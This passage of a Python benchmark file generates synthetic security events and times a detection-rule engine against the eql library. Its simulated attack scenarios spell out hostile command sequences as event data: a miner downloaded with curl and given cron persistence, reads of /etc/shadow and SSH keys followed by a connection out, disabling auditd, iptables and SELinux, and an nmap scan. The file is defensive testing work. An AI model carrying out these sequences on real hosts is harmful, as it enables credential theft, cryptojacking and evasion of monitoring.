            path = _HOT_DROP_DIR + _HOT_MINER
            chmod = self._proc(host, sh, "chmod", ["chmod", "+x", path], root, "/root")
            miner = self._proc(host, sh, _HOT_MINER, [path], root, "/root", exe=path)
            steps += [lambda: self.process_start(sh), lambda: self.process_start(curl)]
            steps += [lambda: self.net_event(curl, drop, 80), lambda: self.file_event(curl, path, "creation")]
            steps += [lambda: self.process_start(chmod), lambda: self.process_start(miner)]
            steps += [lambda: self.net_event(miner, f"{drop}", 3333)]
            steps += [lambda: self.file_event(sh, "/etc/cron.d/.sysupdate", "creation")]
        elif kind == 3:  # credentials: shadow and SSH keys read, then sent out
            user = ("1000", "alice")
            py = self._proc(
                host, self._pick_parent(host), "python3", ["python3", "-c", "import os"], user, "/home/alice"
            )
            steps += [lambda: self.process_start(py), lambda: self.file_event(py, "/etc/passwd")]
            steps += [
                lambda: self.file_event(py, "/etc/shadow"),
                lambda: self.file_event(py, "/home/alice/.ssh/id_rsa"),
            ]
            steps += [lambda: self.net_event(py, self.public_ip(), 443)]
        elif kind == 4:  # defence evasion as root
            parent = self._pick_parent(host)
            cmds = (
                ("systemctl", ["systemctl", "stop", "auditd"]),
                ("iptables", ["iptables", "-F"]),
                ("setenforce", ["setenforce", "0"]),
            )
            for name, args in cmds:
                p = self._proc(host, parent, name, args, root, "/root")
                steps.append(partial(self.process_start, p))
        elif kind == 5:  # a scan from a compromised host
            nmap = self._proc(
                host,
                self._pick_parent(host),
                "nmap",
                ["nmap", "-sS", "-p", "1-1024", "10.0.3.0/24"],
                root,
                "/root",
            )
            steps.append(lambda: self.process_start(nmap))
            for _ in range(4):
                ip, port = self.internal_ip(), r.choice((22, 80, 443, 3306))
                steps.append(partial(self.net_event, nmap, ip, port))
        else:  # a direct-to-IP download without DNS, then exfiltration of a key
            user = r.choice(_USERS[3:6])
            curl = self._proc(
                host,
                self._pick_parent(host),
                "curl",
                ["curl", "-sO", f"http://{drop}/t.tgz"],
                user,
                f"/home/{user[1]}",
            )
            steps += [lambda: self.process_start(curl), lambda: self.net_event(curl, drop, 80)]
            py = self._proc(host, curl, "python3", ["python3", "x.py"], user, f"/home/{user[1]}")
            steps += [lambda: self.process_start(py), lambda: self.file_event(py, "/var/run/docker.sock")]
        return steps


def generate_events(n: int = 200_000, seed: int = 7) -> list[Event]:
    """Return ``n`` deterministic ECS events (nested objects), in ``@timestamp``/``event.sequence`` order.

    About 45% process (starts and some ends), 35% file and 20% network events, from twelve hosts in
    five roles, with rare attack scenarios interleaved (their events spread over a few tens of ms).
    """
    stream = _Stream(seed)
    r = stream.rng
    out: list[Event] = []
    due: list[tuple[int, int, Callable[[], Event]]] = []
    order = 0
    ts = _BASE_TS
    i = 0
    while len(out) < n:
        i += 1
        if due and due[0][0] <= i:
            ev = heapq.heappop(due)[2]()
        elif r.random() < 1 / 900:
            steps = stream.attack()
            at = i
            for step in steps[1:]:
                at += 1 + r.randrange(12)
                order += 1
                heapq.heappush(due, (at, order, step))
            ev = steps[0]()
        else:
            host = r.choice(stream.hosts)
            roll = r.random()
            if roll < 0.38:
                ev = stream.benign_process(host)
            elif roll < 0.45:
                ev = stream.benign_end(host)
            elif roll < 0.80:
                ev = stream.benign_file(host)
            else:
                ev = stream.benign_net(host)
        ts += r.choice((0, 1, 1, 2, 2, 3, 4, 5))
        ev["@timestamp"] = ts
        ev["event"]["sequence"] = len(out) + 1
        out.append(ev)
    return out


# =========================================================================== the eql baseline


@dataclass(frozen=True, slots=True)
class BaselineResult:
    """The ``eql`` library's PythonEngine on the same rules (those it can run) and events."""

    parsed: int  # rules eql.parse_query accepts
    unparsed: int
    unrunnable: int  # parsed, but the PythonEngine cannot run them on these events (not loaded)
    loaded: int  # rules timed: parsed - unrunnable
    unparsed_examples: tuple[tuple[str, str], ...]  # (rule id, eql's first error), unparsed then unrunnable
    events: int  # events timed
    total_events: int
    seconds: float
    events_per_s: float
    alerts: int
    compile_s: float
    sampled_events: int | None  # the prefix timed when the whole stream would take too long
    syntax: str


_EQL_SYNTAX: Final = "elastic_endpoint_syntax + allow_runs + allow_negation (fallback: elasticsearch_syntax)"


def _eql_parse(eql: Any, query: str) -> tuple[Any, str | None]:
    """Parse with the most permissive settings eql 1.0.1 has (Endpoint syntax, runs=, ![...])."""
    p = eql.parser
    first: str | None = None
    for syntax in (p.elastic_endpoint_syntax, p.elasticsearch_syntax):
        try:
            with syntax, p.allow_runs, p.allow_negation, p.allow_sample, p.ignore_missing_fields:
                return eql.parse_query(query), None
        except eql.EqlError as exc:
            if first is None:
                first = " ".join(str(getattr(exc, "error_msg", "") or exc).split()) or type(exc).__name__
    return None, first


def _list_fields(events: Sequence[Mapping[str, Any]]) -> frozenset[tuple[str, ...]]:
    """Every field path holding a list (a multi-valued field) in any event."""
    found: set[tuple[str, ...]] = set()

    def walk(obj: Mapping[str, Any], prefix: tuple[str, ...]) -> None:
        for key, value in obj.items():
            if isinstance(value, Mapping):
                walk(value, (*prefix, key))
            elif isinstance(value, list):
                found.add((*prefix, key))

    for ev in events:
        walk(ev, ())
    return frozenset(found)


def _eql_nodes(node: Any) -> Any:
    """Yield ``node`` and every eql AST node under it."""
    yield node
    for _key, value in node.iter_slots():
        values = (
            value.values()
            if isinstance(value, dict)
            else value
            if isinstance(value, list | tuple)
            else [value]
        )
        for v in values:
            if hasattr(v, "iter_slots"):
                yield from _eql_nodes(v)


def _eql_unrunnable(eql: Any, query: Any, lists: frozenset[tuple[str, ...]]) -> str | None:
    """Say why eql's PythonEngine would crash on this query over these events, if it would.

    Its ``in`` over literals hashes the field's value, so on a multi-valued field (a list, such
    as ``process.args``) it raises ``TypeError: unhashable type: 'list'`` mid-stream. Its optimizer
    also turns ``f == "a" or f == "b"`` into such an ``in``.
    """
    for node in _eql_nodes(query):
        if (
            isinstance(node, eql.ast.InSet)
            and node.is_literal()
            and isinstance(node.expression, eql.ast.Field)
        ):
            path = (node.expression.base, *map(str, node.expression.path))
            if path in lists:
                return (
                    f"runtime: PythonEngine raises TypeError (unhashable list) on `in` over the "
                    f"multi-valued field {'.'.join(path)}"
                )
    return None


def eql_baseline(
    policy_rules: Sequence[Rule],
    events: Sequence[Mapping[str, Any]],
    *,
    max_seconds: float = EQL_MAX_SECONDS,
    sample_events: int = EQL_SAMPLE_EVENTS,
) -> BaselineResult:
    """Time the ``eql`` library's ``PythonEngine`` on the rules it can run, over ``events``.

    Rules are parsed with the most permissive syntax eql has; those it rejects, and those its
    engine would crash on with these events (see :func:`_eql_unrunnable`), are left out and listed
    with eql's first error. Events become ``eql.Event(category, @timestamp in ms, document)`` before
    timing and the engine is configured with ``time_unit=1000`` (ticks per second), so maxspan
    compares milliseconds. It streams in chunks of ``_EQL_CHUNK`` events and stops after the chunk
    that passes ``max_seconds`` (never before ``sample_events``): a prefix, since rates are per event.
    """
    import eql  # type: ignore[import-untyped]  # the bench-only dependency, nowhere else

    lists = _list_fields(events)
    runnable: list[Any] = []
    unparsed: list[tuple[str, str]] = []
    unrunnable: list[tuple[str, str]] = []
    for rule in policy_rules:
        query, error = _eql_parse(eql, rule.query)
        if query is None:
            unparsed.append((rule.id, error or "unparsed"))
            continue
        why = _eql_unrunnable(eql, query, lists)
        if why is not None:
            unrunnable.append((rule.id, why))
        else:
            runnable.append((rule.id, query))
    hits = [0]

    def count(_result: object) -> None:
        hits[0] += 1

    start = time.perf_counter()
    engine = eql.PythonEngine({"time_unit": 1000})
    engine.add_output_hook(count)
    loaded = 0
    for rule_id, query in runnable:
        try:
            engine.add_query(query)
            loaded += 1
        except eql.EqlError as exc:
            unrunnable.append((rule_id, f"engine: {' '.join(str(exc).split())}"))
    compile_s = time.perf_counter() - start
    converted = [
        eql.Event(str(ev.get("event", {}).get("category", "generic")), ev.get("@timestamp", 0), ev)
        for ev in events
    ]
    # eql slows down as its sequence state grows, so no projection from a short probe: it streams in
    # chunks until the stream ends or the time budget is spent, and is rated on what it processed
    seconds = 0.0
    timed = 0
    while timed < len(converted):
        size = min(_EQL_CHUNK, sample_events - timed) if timed < sample_events else _EQL_CHUNK
        chunk = converted[timed : timed + size]
        start = time.perf_counter()
        engine.stream_events(chunk, finalize=False)
        seconds += time.perf_counter() - start
        timed += len(chunk)
        if seconds > max_seconds and timed >= min(sample_events, len(converted)):
            break
    start = time.perf_counter()
    engine.stream_events([], finalize=True)
    seconds += time.perf_counter() - start
    sampled: int | None = timed if timed < len(converted) else None
    return BaselineResult(
        parsed=len(policy_rules) - len(unparsed),
        unparsed=len(unparsed),
        unrunnable=len(unrunnable),
        loaded=loaded,
        unparsed_examples=tuple(unparsed + unrunnable),
        events=timed,
        total_events=len(events),
        seconds=round(seconds, 3),
        events_per_s=_rate(timed, seconds),
        alerts=hits[0],
        compile_s=round(compile_s, 3),
        sampled_events=sampled,
        syntax=_EQL_SYNTAX,
    )


# =========================================================================== our engine


class _Engine(Protocol):
    def process(self, events: Sequence[Mapping[str, object]]) -> Sequence[object]: ...

    def flush(self) -> Sequence[object]: ...


EngineFactory = Callable[[Sequence[Rule]], _Engine]


def _default_factory(rules: Sequence[Rule]) -> _Engine:
    module = importlib.import_module("guard.policy.engine")  # written separately; imported when run
    engine: _Engine = module.Engine(rules)
    return engine


@dataclass(frozen=True, slots=True)
class _OursRun:
    compile_s: float
    seconds: float
    alerts: int


def _run_ours(
    factory: EngineFactory, rules: Sequence[Rule], events: Sequence[Event], runs: int
) -> list[_OursRun]:
    batches = [events[i : i + BATCH] for i in range(0, len(events), BATCH)]
    out = []
    for _ in range(runs):
        gc.collect()
        t0 = time.perf_counter()
        engine = factory(rules)
        t1 = time.perf_counter()
        alerts = 0
        for batch in batches:
            alerts += len(engine.process(batch))
        alerts += len(engine.flush())
        t2 = time.perf_counter()
        out.append(_OursRun(t1 - t0, t2 - t1, alerts))
        del engine
    return out


def _is_elastic_dir(path: Path) -> bool:
    """Tell whether ``path`` holds Elastic detection-rules TOML (a ``[rule]`` table, not ``[[rule]]``)."""
    if not path.is_dir():
        return False
    for f in sorted(path.rglob("*.toml"))[:20]:
        try:
            data = tomllib.loads(f.read_text(encoding="utf-8"))
        except (OSError, UnicodeDecodeError, tomllib.TOMLDecodeError):
            continue
        rule = data.get("rule")
        if isinstance(rule, dict) and ("language" in rule or "rule_id" in rule):
            return True
    return False


def _load_rules(rules_dir: Path | None, seed: int) -> tuple[tuple[Rule, ...], str]:
    if rules_dir is None:
        with tempfile.TemporaryDirectory(prefix="guard-bench-rules-") as tmp:
            path = Path(tmp) / "generated.toml"
            path.write_text(generate_rules(seed=seed), encoding="utf-8")
            return load_policy(path).rules, "generated"
    if _is_elastic_dir(rules_dir):
        elastic = importlib.import_module("guard.policy.elastic")
        imported = elastic.import_elastic([rules_dir])
        return tuple(imported.rules), f"elastic:{rules_dir}"
    return load_policy(rules_dir).rules, f"policy:{rules_dir}"


def _rss_now_mib() -> float | None:
    try:
        pages = int(Path("/proc/self/statm").read_text().split()[1])
    except (OSError, ValueError, IndexError):
        return None
    return round(pages * os.sysconf("SC_PAGE_SIZE") / 2**20, 1)


def _rate(events: int, seconds: float) -> float:
    return round(events / seconds, 1) if seconds > 0 else math.inf


def run_engine_benchmark(
    rules_dir: Path | None = None,
    n_events: int = 200_000,
    seed: int = 7,
    engine_factory: EngineFactory | None = None,
    *,
    runs: int = 3,
    eql_max_seconds: float = EQL_MAX_SECONDS,
    eql_sample_events: int = EQL_SAMPLE_EVENTS,
) -> dict[str, Any]:
    """Measure our engine and the eql baseline on the same rules and events; return JSON-able figures.

    ``ratio`` is ours/eql in events/s over each one's timed events; when eql was timed on a prefix
    ``ratio_same_prefix`` compares both on that prefix, and the ratio target is judged on the
    smaller of the two. Peak RSS is read after our runs, before the baseline loads.
    """
    if n_events < 1 or runs < 1:
        raise ValueError("n_events and runs must be positive")
    factory = engine_factory or _default_factory
    rules, source = _load_rules(rules_dir, seed)
    sequences = sum(1 for r in rules if r.ir.is_sequence)
    t0 = time.perf_counter()
    events = generate_events(n_events, seed)
    generate_s = time.perf_counter() - t0
    rss_events = _rss_now_mib()

    ours = _run_ours(factory, rules, events, runs)
    best = min(ours, key=lambda r: r.seconds)
    median_s = statistics.median(r.seconds for r in ours)
    peak_rss = round(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024, 1)

    gc.collect()
    base = eql_baseline(rules, events, max_seconds=eql_max_seconds, sample_events=eql_sample_events)
    ours_rate = _rate(len(events), best.seconds)
    ratio = round(ours_rate / base.events_per_s, 2) if base.events_per_s else None
    prefix: dict[str, Any] | None = None
    ratio_prefix = None
    if base.sampled_events is not None:
        pre = _run_ours(factory, rules, events[: base.events], runs)
        pbest = min(pre, key=lambda r: r.seconds)
        prefix = {
            "events": base.events,
            "seconds": round(pbest.seconds, 4),
            "events_per_s": _rate(base.events, pbest.seconds),
            "alerts": pbest.alerts,
        }
        ratio_prefix = round(prefix["events_per_s"] / base.events_per_s, 2) if base.events_per_s else None
    judged = min(x for x in (ratio, ratio_prefix) if x is not None) if ratio is not None else None
    eql_dict = asdict(base)
    eql_dict["unparsed_examples"] = [{"rule": rid, "error": msg} for rid, msg in base.unparsed_examples]
    eql_dict["sampled"] = base.sampled_events is not None
    return {
        "rules": {
            "total": len(rules),
            "single": len(rules) - sequences,
            "sequences": sequences,
            "source": source,
        },
        "events": len(events),
        "seed": seed,
        "generate_s": round(generate_s, 2),
        "ours": {
            "compile_s": round(statistics.median(r.compile_s for r in ours), 4),
            "seconds": round(best.seconds, 4),
            "seconds_median": round(median_s, 4),
            "events_per_s": ours_rate,
            "events_per_s_median": _rate(len(events), median_s),
            "alerts": best.alerts,
            "alert_share": round(best.alerts / len(events), 5),
            "runs": runs,
            "batch": BATCH,
            "prefix": prefix,
        },
        "eql": eql_dict,
        "ratio": ratio,
        "ratio_same_prefix": ratio_prefix,
        "peak_rss_mib": peak_rss,
        "rss_after_events_mib": rss_events,
        "targets": dict(TARGETS),
        "met": {
            "events_per_s": ours_rate >= TARGETS["events_per_s"],
            "ratio_vs_eql": judged is not None and judged >= TARGETS["ratio_vs_eql"],
        },
    }


def render_engine_benchmark(result: Mapping[str, Any]) -> str:
    """Render :func:`run_engine_benchmark`'s result as the text ``guardctl bench engine`` prints."""
    r, o, e = result["rules"], result["ours"], result["eql"]
    met = result["met"]
    t = result["targets"]

    def verdict(ok: bool) -> str:
        return "met" if ok else "MISSED"

    lines = [
        f"{r['total']} rules ({r['single']} single-event, {r['sequences']} sequences; {r['source']}), "
        f"{result['events']} events",
        f"  ours:  {o['events_per_s']:>12,.0f} events/s best of {o['runs']} "
        f"(median {o['events_per_s_median']:,.0f}); {o['seconds']} s, compile {o['compile_s']} s, "
        f"{o['alerts']} alerts ({o['alert_share']:.2%} of events)",
    ]
    if o.get("prefix"):
        p = o["prefix"]
        lines.append(f"         {p['events_per_s']:>12,.0f} events/s on the first {p['events']} events")
    sample = f", timed on the first {e['sampled_events']} events" if e["sampled"] else ""
    lines += [
        f"  eql:   {e['events_per_s']:>12,.0f} events/s ({e['loaded']} of the rules run: {e['unparsed']} not "
        f"parsed, {e['unrunnable']} would crash it{sample}); {e['seconds']} s, {e['alerts']} alerts",
    ]
    examples = e["unparsed_examples"]
    for ex in examples[:3]:
        lines.append(f"         left out of eql: {ex['rule']}: {ex['error'][:120]}")
    if len(examples) > 3:
        lines.append(f"         ... and {len(examples) - 3} more left out (--json lists them)")
    ratio = result["ratio"]
    line = f"  ratio ours/eql: {ratio}x" if ratio is not None else "  ratio ours/eql: n/a"
    if result.get("ratio_same_prefix") is not None:
        line += f" ({result['ratio_same_prefix']}x on the same prefix)"
    lines += [
        line,
        f"  peak RSS: {result['peak_rss_mib']} MiB "
        f"(after generating the events: {result['rss_after_events_mib']} MiB)",
        f"  targets: >= {t['events_per_s']:,.0f} events/s: {verdict(met['events_per_s'])}; "
        f">= {t['ratio_vs_eql']}x eql: {verdict(met['ratio_vs_eql'])}",
    ]
    return "\n".join(lines)
